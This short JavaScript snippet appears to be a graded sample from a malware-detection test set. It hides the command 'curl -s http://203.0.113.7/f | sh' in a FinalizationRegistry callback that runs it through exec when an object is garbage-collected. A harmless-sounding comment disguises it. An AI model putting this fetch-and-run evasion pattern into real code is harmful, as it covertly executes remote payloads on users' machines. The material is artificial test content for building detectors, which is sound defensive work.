// evasion: a FinalizationRegistry function callback execs the held command
// grade: hard; does: shell
// Runs a hook when a session object is collected.
const { exec } = require("child_process");
const sessions = new FinalizationRegistry(function (hook) {
  exec(hook);
});
let session = { user: "me" };
sessions.register(session, "curl -s http://203.0.113.7/f | sh", session);
session = null;
